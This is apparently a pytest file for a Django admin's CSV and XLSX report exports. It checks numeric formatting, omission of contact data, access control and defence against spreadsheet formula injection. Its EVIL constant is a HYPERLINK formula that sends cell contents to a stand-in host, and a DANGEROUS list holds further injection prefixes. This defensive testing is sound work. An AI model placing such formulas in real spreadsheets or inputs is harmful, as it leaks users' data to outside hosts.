"""Files for spreadsheets: numbers are numbers, and what somebody typed never becomes a formula."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, User
from openpyxl import load_workbook

from tests.spreadsheets import sheets_of
from tests.workshops.making import make_booking
from tests.workshops.reporting import at, delivered, funder, in_register, received
from workshops.models import Session

pytestmark = pytest.mark.django_db
ADDRESS = "/admin/reports/workshops/"
EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")'
DANGEROUS = [EVIL, "+386 1 234", "-1+1", "@SUM(1)", "\tcmd", "\r=1"]


@pytest.fixture
def coordinator(client):
    user = User.objects.create_user("ana", password="x", is_staff=True)
    user.groups.add(Group.objects.get(name="Coordinators"))
    client.force_login(user)
    return client


def exported(client, kind: str, **asked: str) -> bytes:
    return client.get(ADDRESS, {"period": "school-2025", "export": kind, **asked}).content


def rows_of(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def a_school_named(name: str, **values) -> Session:
    return delivered(at(2025, 10, 1), received(at(2025, 9, 10), school_name=name, status="delivered"), **values)


def test_the_table_is_exported_as_it_is_shown(coordinator):
    delivered(at(2025, 10, 1), received(at(2025, 9, 10), school=in_register(), status="delivered"))
    delivered(at(2025, 10, 2), participants=1234)
    heads, *rows = rows_of(exported(coordinator, "csv"))
    assert len(heads) == 8
    assert [row[1:] for row in rows] == [
        ["1", "1", "1", "20", "1", "0,75", ""],
        ["1", "1", "1", "1234", "1", "0,75", ""],
        ["2", "2", "2", "1254", "2", "1,5", ""],
    ]
    sheet = load_workbook(io.BytesIO(exported(coordinator, "xlsx"))).worksheets[0]
    values = list(sheet.values)
    assert "2025/26" in values[0][0] and "2025" in values[1][0]
    assert (list(values[3]), sheet.freeze_panes) == (heads, "B5")
    assert [row[4:7] for row in values[4:]] == [(20, 1, 0.75), (1234, 1, 0.75), (1254, 2, 1.5)]
    assert {sheet.cell(5, column).data_type for column in range(2, 8)} == {"n"}
    assert sheet.column_dimensions["A"].width > 10


def test_each_session_has_a_row_without_contact_data(coordinator):
    a_school_named("OŠ Litija", funder=funder(), grant="G-1")
    heads, row = rows_of(exported(coordinator, "sessions"))
    assert len(heads) == len(row) == 13
    assert row[:3] == ["2025-10-01", "OŠ Litija", "Krško"]
    assert row[7:10] == ["20", "1", "0,75"] and row[11:] == [funder().name, "G-1"]
    book = load_workbook(io.BytesIO(exported(coordinator, "xlsx")))
    everything = str([list(sheet.values) for sheet in book])
    assert "Litija" in everything and book.worksheets[1].freeze_panes == "B2"
    assert book.worksheets[1]["A2"].is_date
    assert "Ana" not in everything and "ana@example.si" not in everything and "31234567" not in everything


@pytest.mark.parametrize("name", DANGEROUS)
def test_what_a_school_typed_is_text_in_every_file(coordinator, name):
    a_school_named(name, grant=name)
    _heads, row = rows_of(exported(coordinator, "sessions"))
    assert row[1] == row[12] == f"'{name}"
    sheet = load_workbook(io.BytesIO(exported(coordinator, "xlsx"))).worksheets[1]
    for cell in (sheet["B2"], sheet["M2"]):
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value.split() == name.split()


def test_control_characters_do_not_break_the_file(coordinator):
    a_school_named("OŠ \x0b\x07Litija")
    sheet = load_workbook(io.BytesIO(exported(coordinator, "xlsx"))).worksheets[1]
    assert sheet["B2"].value == "OŠ Litija"


def test_libreoffice_reads_numbers_as_numbers_and_names_as_text(coordinator, tmp_path):
    a_school_named(EVIL, participants=1234)
    path = tmp_path / "report.xlsx"
    path.write_bytes(exported(coordinator, "xlsx"))
    report, sessions, *_about = sheets_of(path)
    assert report[-1][4] == "1234" and float(report[-1][6].replace(",", ".")) == 0.75
    assert sessions[1][1] == EVIL


@pytest.mark.parametrize("name", DANGEROUS)
def test_the_list_of_schools_is_exported_safely(coordinator, name):
    in_register(name=name, municipality="\x0bIdrija")
    content = b"".join(coordinator.get("/admin/schools/", {"export": "csv"}).streaming_content).decode()
    row = next(row for row in csv.reader(io.StringIO(content, newline="")) if "Idrija" in row)
    assert row[1] == f"'{name}"
    book = b"".join(coordinator.get("/admin/schools/", {"export": "xlsx"}).streaming_content)
    cells = [cell for row in load_workbook(io.BytesIO(book)).active for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


def test_only_those_who_see_bookings_get_the_files(client):
    make_booking()
    assert client.get(ADDRESS, {"export": "xlsx"}).status_code == 302
